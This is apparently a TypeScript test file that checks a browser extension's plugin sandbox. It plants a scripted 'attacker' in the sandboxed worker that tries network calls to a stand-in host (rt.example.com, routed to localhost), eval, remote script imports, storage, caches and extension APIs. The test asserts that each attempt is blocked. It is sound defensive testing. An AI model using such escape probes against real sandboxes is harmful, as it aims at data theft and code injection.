/**
 * The second border: what native code could do in a plugin's worker, had it got out of the interpreter. In place of the
 * interpreter an attacker is built into the sandboxed page; what it says stands where a plugin's failure would.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import { makeCertificate } from '../../../examples/pages/server/certificate.ts';
import { sandboxScript } from '../../../extension/plugins.mjs';
import { type Chromium, EXTENSION_ID, startChromium } from '../lib/chromium.ts';
import { cure } from '../lib/plugin-codes.ts';
import { type CompanyBuild, companyBuild } from '../lib/plugins.ts';

/** Each way out: `name=…` where it led somewhere, `name!Error` where it did not. */
const ATTACK = `
const own = 'chrome-extension://${EXTENSION_ID}/';
const opened = (socket) => new Promise((yes, no) => { socket.onopen = () => yes('open'); socket.onerror = () => no(new Error()); });
const tries = {
  idb: () => new Promise((yes, no) => {
    const asked = indexedDB.open('leitplanke');
    asked.onsuccess = () => yes(asked.result.name);
    asked.onerror = () => no(asked.error);
  }),
  fetch: () => fetch('https://rt.example.com/fetch').then(({ status }) => status),
  blind: () => fetch('https://rt.example.com/blind', { mode: 'no-cors' }).then(({ type }) => type),
  package: () => fetch(own + 'manifest.json').then(({ status }) => status),
  socket: () => opened(new WebSocket('wss://rt.example.com/socket')),
  code: () => eval('1'),
  maker: () => new Function('return 1')(),
  script: () => importScripts('https://rt.example.com/script'),
  module: () => import('https://rt.example.com/module'),
  caches: () => caches.open('x'),
  chrome: () => chrome.runtime.id,
  files: () => navigator.storage.getDirectory(),
  channel: () => navigator.locks.request('x', () => 'held'),
};
onmessage = async ({ data }) => {
  if (data.type !== 'start') return;
  const said = [];
  for (const [name, one] of Object.entries(tries)) {
    try { said.push(name + '=' + await one()); } catch (error) { said.push(name + '!' + error.name); }
  }
  postMessage({ type: 'failed', id: null, code: 'crashed', message: said.join(' ') });
};`;
const WAYS = [...ATTACK.matchAll(/^ {2}(\w+): \(\) =>/gm)].map(([, name]) => name);

let server: Server;
let company: CompanyBuild;
let browser: Chromium;
const reached: (string | undefined)[] = [];

before(async () => {
  server = createServer(makeCertificate(), (request, response) => {
    reached.push(request.url);
    response.end();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  company = await companyBuild('chromium', [cure]);
  await sandboxScript(company.extension, { bundle: true }, ATTACK);
  browser = await startChromium({ sitesPort: port, extension: company.extension, hosts: { 'rt.example.com': port } });
});
after(async () => {
  await browser?.close();
  await company?.close();
  server?.close();
});

test('native code in a plugin’s worker finds no storage, no network, no code from text; only what is in the package', async () => {
  const options = await browser.openExtension('options.html');
  const problem = options.locator('[data-plugin="acme.cure"] [data-code=tests_failed]').first();
  await problem.waitFor();
  const said = (await problem.textContent()) ?? '';
  // The package is what anybody can download from the store; nothing of a customer or of the device lies in it.
  for (const way of WAYS) assert.match(said, new RegExp(`\\b${way}${way === 'package' ? '=200' : '!'}`), said);
  assert.equal(WAYS.length, 13);
  assert.deepEqual(reached, []);
});
